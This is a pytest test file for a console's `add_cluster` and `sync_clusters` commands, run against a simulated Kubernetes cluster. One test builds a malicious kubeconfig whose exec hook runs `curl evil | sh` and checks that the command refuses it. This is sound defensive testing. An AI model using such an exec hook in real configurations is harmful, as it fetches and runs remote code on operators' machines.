"""`add_cluster` and `sync_clusters`, the operator's commands for the engine."""

from __future__ import annotations

import logging
import re
from collections.abc import Iterator
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from console import tasks
from console.models import Cluster
from simcluster.server import SimCluster


@pytest.fixture
def sim() -> Iterator[SimCluster]:
    with SimCluster(nodes=2, speed=50) as cluster:
        yield cluster


def run(*args: str) -> str:
    out = StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_it_registers_a_cluster_and_prints_nothing_secret(
    db: None, sim: SimCluster, tmp_path: Path
) -> None:
    path = sim.write_kubeconfig(tmp_path / "config", namespace="team-a")
    output = run("add_cluster", "gpu-a", "--kubeconfig", str(path))
    assert output == (
        f"Registered cluster gpu-a: server {sim.url}, context simcluster, "
        "default namespace team-a, insecure (TLS not verified).\n"
    )
    assert sim.token not in output
    cluster = Cluster.objects.get(name="gpu-a")
    assert (cluster.context, cluster.namespace) == ("simcluster", "team-a")
    assert sim.token in cluster.kubeconfig and sim.token not in repr(cluster) + str(cluster)


def test_it_updates_the_cluster_of_that_name(db: None, sim: SimCluster, tmp_path: Path) -> None:
    path = sim.write_kubeconfig(tmp_path / "config")
    run("add_cluster", "gpu-a", "--kubeconfig", str(path))
    output = run("add_cluster", "gpu-a", "--kubeconfig", str(path), "--namespace", "ml")
    assert output.startswith("Updated cluster gpu-a")
    assert Cluster.objects.get().namespace == "ml"


def test_it_refuses_a_kubeconfig_that_runs_code(db: None, tmp_path: Path) -> None:
    path = tmp_path / "config"
    path.write_text(
        "apiVersion: v1\nkind: Config\ncurrent-context: c\n"
        "clusters: [{name: c, cluster: {server: 'https://k:6443'}}]\n"
        "users: [{name: u, user: {exec: {command: /bin/sh, args: [-c, 'curl evil | sh']}}}]\n"
        "contexts: [{name: c, context: {cluster: c, user: u}}]\n"
    )
    with pytest.raises(CommandError, match="exec: it could run code") as error:
        run("add_cluster", "gpu-a", "--kubeconfig", str(path))
    assert "curl" not in str(error.value)
    assert not Cluster.objects.exists()


def test_it_syncs_every_cluster_once_and_prints_a_line_each(
    db: None, sim: SimCluster, tmp_path: Path
) -> None:
    run("add_cluster", "gpu-a", "--kubeconfig", str(sim.write_kubeconfig(tmp_path / "config")))
    output = run("sync_clusters")
    assert output.startswith("gpu-a: relist: 7 changes applied, 0 jobs touched; 8 API requests (0 ")
    figures = r"\d+\.\d+ MB received, \d+ rows written; [\d.]+s wall, [\d.]+s CPU"
    assert re.search(figures, output)
    assert Cluster.objects.get().reachable
    assert run("sync_clusters").startswith("gpu-a: watch: ")  # from the cursors on


def test_it_exits_with_1_when_a_cluster_is_unreachable(
    db: None, sim: SimCluster, tmp_path: Path
) -> None:
    run("add_cluster", "gpu-a", "--kubeconfig", str(sim.write_kubeconfig(tmp_path / "config")))
    sim.set_fault(status=503, seconds=30)
    out = StringIO()
    with pytest.raises(CommandError, match="Unreachable: gpu-a") as error:
        call_command("sync_clusters", "--cluster", "gpu-a", stdout=out)
    assert error.value.returncode == 1
    assert "gpu-a: UNREACHABLE after" in out.getvalue() and "HTTP 503" in out.getvalue()


def test_it_names_an_unknown_cluster(db: None) -> None:
    with pytest.raises(CommandError, match="No cluster named 'nope'"):
        run("sync_clusters", "--cluster", "nope")


def test_it_logs_the_figures_of_every_beat_driven_cycle(
    db: None, sim: SimCluster, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    run("add_cluster", "gpu-a", "--kubeconfig", str(sim.write_kubeconfig(tmp_path / "config")))
    with caplog.at_level(logging.INFO, logger="console.tasks"):
        tasks.sync_cluster(Cluster.objects.get().pk)
    assert re.search(r"sync of cluster gpu-a \(\d+\): .* API requests .*s CPU", caplog.text)
